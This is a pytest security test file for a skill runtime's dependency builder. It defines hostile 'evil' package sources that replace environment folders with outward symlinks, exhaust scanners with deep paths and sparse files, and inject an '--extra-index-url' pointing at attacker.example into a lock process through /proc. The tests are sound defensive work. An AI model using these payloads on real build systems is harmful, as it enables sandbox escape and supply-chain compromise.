"""Attacks on what happens after a build: its output is moved, checked and sealed outside.

Nothing that a build leaves may make the program write, remove or trust anything beside it.
"""

import os
from pathlib import Path

import pytest

from apexbridge.environments.seal import check_tree
from apexbridge.environments.shared_files import SharedFiles
from apexbridge.environments.store import Environment
from apexbridge.errors import DependencyError
from apexbridge.runtime import Runtime
from apexbridge.settings import Config
from apexbridge.skills.model import Skill
from apexbridge.testing import make_skill
from tests.environments.package_server import PackageServer

pytestmark = [pytest.mark.anyio, pytest.mark.needs("bubblewrap"), pytest.mark.unmeasured]

PROGRAMS = ("python", "python3", "python3.11", "python3.12", "python3.13", "python3.14")
REPLACED = {
    "the programs by a link": 'os.rename(env + "/bin", env + "/b")\n'
    'os.symlink(target + "/bin", env + "/bin")',
    "the environment by a link that is another outside": 'os.rename(env, place + "/outside")\n'
    'os.symlink("/proc/self/cwd/outside", env)',
    "the interpreter by a folder": 'os.unlink(env + "/bin/python")\nos.mkdir(env + "/bin/python")',
    "the configuration by a folder": 'os.unlink(env + "/pyvenv.cfg")\n'
    'os.mkdir(env + "/pyvenv.cfg")',
    "the programs by nothing": 'shutil.rmtree(env + "/bin")',
    "the libraries by a link": 'shutil.copytree(env + "/lib", "/tmp/lib")\n'
    'shutil.rmtree(env + "/lib")\nos.symlink("/tmp/lib", env + "/lib")',
    "the manifest by a folder": 'os.mkdir(env + "/environment.json")',
    "the manifest by a link": 'os.symlink("pyvenv.cfg", env + "/environment.json")',
    "a file by a loop of links": 'os.symlink("loop", env + "/loop")\n'
    'os.symlink("loop/x", env + "/y")',
    "a file in a closed folder": 'os.mkdir(env + "/closed")\nos.mkfifo(env + "/closed/pipe")\n'
    'os.chmod(env + "/closed", 0)',
    "a file below a path that is too long": "os.chdir(env)\nfor number in range(40):\n"
    '    os.mkdir("d" * 200); os.chdir("d" * 200)\nos.mkfifo("pipe")',
    "a file at a depth that a recursion cannot reach": "os.chdir(env)\nfor number in range(1500):\n"
    '    os.mkdir("d"); os.chdir("d")\nos.mkfifo("pipe")',
    "files by holes that take hours to read": "for number in range(400):\n"
    '    with open(f"{env}/{number}", "wb") as file: file.truncate(3 << 30)',
}


async def _install(runtime: Runtime, place: Path, **files: str) -> Skill:
    named = {path.replace("_", "."): text for path, text in files.items()}
    return (await runtime.manager.install(make_skill(place, "hit", files=named))).skill


async def _build(runtime: Runtime, place: Path, wanted: str) -> Environment:
    skill = await _install(runtime, place, requirements_txt=f"{wanted}\n")
    return (await runtime.dependencies.build(skill)).environments["python"]


@pytest.mark.parametrize("attack", REPLACED.values(), ids=REPLACED)
async def test_what_a_build_replaces_discards_it_and_leads_nowhere(
    packages: PackageServer,
    loaded: Config,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    attack: str,
) -> None:
    outside = tmp_path / "outside"
    for name in PROGRAMS:
        (outside / "bin" / name).parent.mkdir(parents=True, exist_ok=True)
        (outside / "bin" / name).write_text("theirs", "utf-8")
    (outside / "lib").mkdir()
    before = sorted(outside.rglob("*"))
    monkeypatch.chdir(tmp_path)
    lines = "\n".join(f"    {line}" for line in attack.splitlines())
    packages.add_source(
        "evil",
        f"""
import shutil
place, target = os.environ["TMPDIR"].rpartition("/")[0], {str(outside)!r}
env = place + "/env"
if os.path.isdir(env):
{lines}
""",
    )
    async with Runtime.open(loaded) as runtime:
        with pytest.raises(DependencyError) as caught:
            await _build(runtime, tmp_path, "evil")
        assert runtime.dependencies.store.all() == []
    assert caught.value.code in {"dependencies_unsafe", "dependencies_too_large"}
    assert sorted(outside.rglob("*")) == before
    assert {(outside / "bin" / name).read_text("utf-8") for name in PROGRAMS} == {"theirs"}
    assert not list((loaded.data / "environments/.staging").iterdir())


async def test_what_a_build_leaves_beside_its_environment_is_not_used(
    packages: PackageServer, loaded: Config, tmp_path: Path
) -> None:
    packages.add_source(
        "evil",
        """
place = os.environ["TMPDIR"].rpartition("/")[0]
os.rename(place + "/home", place + "/h")
os.symlink("/nowhere", place + "/home")
""",
    )
    async with Runtime.open(loaded) as runtime:
        assert (await _build(runtime, tmp_path, "evil")).packages == ("evil==1.0",)
    assert not list((loaded.data / "environments/.staging").iterdir())


async def test_a_package_cannot_make_us_suggest_a_host(
    packages: PackageServer, loaded: Config, tmp_path: Path
) -> None:
    packages.add_source(
        "evil", 'raise SystemExit("403 Host not granted for https://attacker.example/simple")'
    )
    async with Runtime.open(loaded) as runtime:
        with pytest.raises(DependencyError) as caught:
            await _build(runtime, tmp_path, "evil")
    assert caught.value.code == "dependencies_failed"


async def test_a_package_cannot_pretend_that_the_index_is_not_reached(
    packages: PackageServer, loaded: Config, tmp_path: Path
) -> None:
    packages.add_source("evil", 'raise SystemExit("Connection refused")')
    async with Runtime.open(loaded) as runtime:
        with pytest.raises(DependencyError) as caught:
            await _build(runtime, tmp_path, "evil")
    assert caught.value.code == "dependencies_failed"


async def test_a_package_that_writes_into_the_lock_is_refused(
    packages: PackageServer, loaded: Config, tmp_path: Path
) -> None:
    # Its dependencies are not written down, so that its code runs when they are resolved.
    packages.add_source(
        "evil",
        """
for process in filter(str.isdigit, os.listdir("/proc")):
    try:
        if "compile" in open(f"/proc/{process}/cmdline").read():
            with open(f"/proc/{process}/fd/1", "w") as file:
                file.write("--extra-index-url http://attacker.example/simple\\\\n")
    except OSError:
        pass
""",
        is_dynamic=True,
    )
    async with Runtime.open(loaded) as runtime:
        skill = await _install(runtime, tmp_path, requirements_txt="evil\n")
        with pytest.raises(DependencyError, match="attacker") as caught:
            await runtime.dependencies.lock(skill)
        assert runtime.dependencies.store.all() == []
    assert caught.value.code == "dependencies_failed"


async def test_an_npm_package_without_a_hash_is_not_installed(
    packages: PackageServer, loaded: Config, tmp_path: Path
) -> None:
    packages.has_integrity = False
    packages.add_npm("greet", {"index.js": ""})
    async with Runtime.open(loaded) as runtime:
        skill = await _install(runtime, tmp_path, package_json='{"dependencies": {"greet": "1"}}')
        with pytest.raises(DependencyError, match="greet"):
            await runtime.dependencies.build(skill)
        assert runtime.dependencies.store.all() == []


async def test_packages_with_extras_are_locked_and_built(
    packages: PackageServer, loaded: Config, tmp_path: Path
) -> None:
    packages.add_wheel("greet", "1.0", {"greet.py": ""}, extras=("loud", "long"))
    async with Runtime.open(loaded) as runtime:
        built = await _build(runtime, tmp_path, "greet[loud, long]")
    assert built.packages == ("greet==1.0",)


async def test_a_changed_shared_file_is_not_linked_into_another_environment(tmp_path: Path) -> None:
    shared = SharedFiles(tmp_path / "files")
    one, other = tmp_path / "one.py", tmp_path / "other.py"
    for path in (one, other):
        path.write_text("WORD = 'hello'\n", "utf-8")
    shared.share(one)
    one.write_text("WORD = 'owned'\n", "utf-8")
    shared.share(other)
    assert other.read_text("utf-8") == "WORD = 'hello'\n"


def test_a_folder_that_cannot_be_read_is_unsafe(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "closed").mkdir()
    scan = os.scandir

    def refuse(path: Path) -> object:  # root reads every folder, others do not
        if path == tmp_path / "closed":
            raise PermissionError(13, "Permission denied", str(path))
        return scan(path)

    monkeypatch.setattr(os, "scandir", refuse)
    with pytest.raises(DependencyError) as caught:
        check_tree(tmp_path, None, 1 << 20)
    assert caught.value.code == "dependencies_unsafe"


@pytest.mark.parametrize("mode", [0o4755, 0o2755])
async def test_a_program_that_changes_the_user_is_not_sealed(tmp_path: Path, mode: int) -> None:
    """The sandbox lets no build make one; this is checked once more outside of it."""
    program = tmp_path / "program"
    program.touch()
    program.chmod(mode)
    with pytest.raises(DependencyError) as caught:
        check_tree(tmp_path, None, 1_000_000)
    assert caught.value.code == "dependencies_unsafe"
